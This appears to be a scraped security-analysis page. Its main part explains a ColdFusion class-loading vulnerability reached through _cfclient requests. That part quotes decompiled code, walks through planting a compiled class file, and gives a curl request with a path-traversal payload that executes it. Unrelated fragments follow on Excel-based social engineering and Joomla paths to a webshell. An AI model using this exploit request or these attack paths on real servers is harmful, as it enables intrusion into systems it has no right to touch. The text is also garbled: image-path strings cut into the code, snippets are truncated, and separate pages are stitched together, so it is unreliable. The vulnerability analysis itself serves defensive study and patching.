Finally translateJava will perform one of two operations. If the file to be loaded is a Java Class binary, as identified by inspecting the first four bytes for the magic value 0xCAFEBABE, then this class file will be loaded. If it is not a class file, the file will be compiled on the fly as source code for a JavaColdFusion component or module.

The root cause of the vulnerability lies in convertToTemplateProxy. We can see that this vulnerable method is called during coldfusion.runtime.JSONUtils.parseObject as shown below, which itself is called during JSONUtils.deserializeJSON. By default deserializeToTemplateProxy will be false, so to reach the vulnerable convertToTemplateProxy method, the HTTP request must be a _cfclient request in order to satisfy the isCFClientCall check. A _cfclient request is identified by having the parameter _cfclient=true present in the request URL.

    private static ObjectparseObject(ParserState state) {
        Object cfml;
        switch (state.currentChar()) {
            case '{': {
                cfml = JSONUtils.parseStruct(state);
                FusionContext fc = FusionContext.getCurrent();
                CFComparable cfmlStruct = returnCaseSensitiveStruct ? (CaseSensitiveStruct)cfml : (Struct)cfml;
                if (fc != null && (fc.isCFClientCall() || state.deserializeToTemplateProxy) && cfmlStruct.get("_metadata") != null) {
                    if (returnCaseSensitiveStruct) {
                        cfml = JSONUtils.convertToTemplateProxy((CaseSensitiveStruct)cfml); // <----
                    cfml = JSONUtils.convertToTemplateProxy((Struct)cfml); // <----From reviewing the above we can see that calling JSONUtils.deserializeJSON with attacker controlled JSON input during a _cfclient request will result in an attacker specified file being instantiated as a Java class. The attacker may provide an arbitrary path to any file on the local file system and the file may have an arbitrary extension, ie. it can end in .txt, .log, .xml or any other extension and does not need to be .cfc. However we must note that this vulnerability in and of itself does not give the ability to create an arbitrary file on disk. An attacker will need to leverage a separate technique to plant a malicious file in a predictable location before being able to leverage this vulnerability.

Triggering the VulnerabilitySearching for calls to the vulnerable JSONUtils.deserializeJSON method reveals the invoke method in the coldfusion.filter.ComponentFilter class. This class is part of a filter chain in the CFCServlet class. The filter chain is a series of filter classes that process, in sequence, all incoming HTTP requests to ColdFusion Component (CFC) files. The configuration for this servlet is specified in the file C:\ColdFusion2021\cfusion\wwwroot\WEB-INF\web.xml which contains the following URL pattern mapping.

    <servlet-mapping id="coldfusion_mapping_4">
    <servlet-mapping id="coldfusion_mapping_18">
    <servlet-mapping id="coldfusion_mapping_19">

Therefore a HTTP request to a CFC file on the server will be processed by the ComponentFilter class.

We can see below in ComponentFilter.invoke that if a url parameter called _cfclient is set to true then all further calls to isCFClientCall will be true, which is a requirement for triggering the vulnerability in coldfusion.runtime.JSONUtils.parseObject as previously discussed. The parameters passed in the request are retrieved via FilterUtils.GetArgumentCollection and an attacker controlled parameter _variables is deserialized via the vulnerable JSONUtils.deserializeJSON method with attacker controlled data.

package coldfusion.filter;

We can see below that if the URL in the request
public class ComponentFilter extends FusionFilter {

    public void invoke(FusionContext context) throws Throwable {
        // ...
                if ((cfClientCall = (String)(urlScope =(UrlScope)context.hiddenScope.get("URL")).get("_cfclient")) != null && Cast._boolean(cfClientCall)) {
                Map args = FilterUtils.GetArgumentCollection(context);
                Struct cloneVars = new Struct();
                if (context.isCFClientCall()) {
                    String name;
                    String type;
                    AttributeCollection attr;
                    int i;
                    Map vars = (Map)JSONUtils.deserializeJSON(args.remove("_variables")); // <----


To demonstrate exploitation we will manually plant a malicious Java class in a predictable location with an unassuming file extension, C:\ColdFusion2021\cfusion\runtime\work\Catalina\localhost\tmp\hax.tmp. As previously discussed, this vulnerability requires the attacker to have this capability either through a separate vulnerability chained to this vulnerability, or by leveraging a web application specific feature of the target application running on top of ColdFusion.

First we create a simple Java class that will execute notepad via a static code block.


public class hax
    static {
        try {
          catch(IOException e) { }

We can compile this class using javac and plant it in an expected location with an extension of .tmp.

copy hax.class C:\ColdFusion2021\cfusion\runtime\work\Catalina\localhost\tmp\hax.tmp

Finally a HTTP request to a CFC endpoint on the target will load the class. The specificCFC endpoint to target will depend on the web application installed on top of ColdFusion.

curl -v -k^&_cfclient=true -X POST --data "_variables={\"_metadata\":{\"classname\":\"\\..\\runtime\\work\\Catalina\\localhost\\tmp\\hax.tmp\"},\"_variables\":{}}" -H "Content-Type: application/x-www-form-urlencoded"

Notepad will now execute with local system privileges.


To successfully remediate against this vulnerability the latest updates for ColdFusion should be applied, specifically:

  • ColdFusion 2021 Update 6 or later
  • ColdFusion 2018 Update 16 or later
Indicated source as
Technical Analysis



The attack itself is carried out locally by a user with authentication to the targeted system. An attacker could exploit the vulnerability by convincing a victim, through social engineering, to download and open a specially crafted file from a website which could lead to a local attack on the victim’s computer. The attacker can trick the victim to open a malicious web page by using an Excel malicious file and he can steal credentials, bank accounts information, sniffing and tracking all the traffic of the victim without stopping – it depends on the scenario and etc.




Proof and Exploit


Technical Analysis

There are at least two ways to achieve RCE.

Vector n°1

It leaks the MySQL credentials, in default and most common configurations MySQL will be exposed only on which make the attack ineffective. But if the database is exposed publicly, the attacker can change the Joomla! Super User’s password. The attacker logs in administrative web interface and modify a template to include a webshell or install a malicious plugin.

Vector n°2

It leaks the Joomla user database (usernames, emails, assignedgroup). The attacker can target a Super user and try bruteforce or credentials stuffing, then follows previouslyshowcased paths to code execution.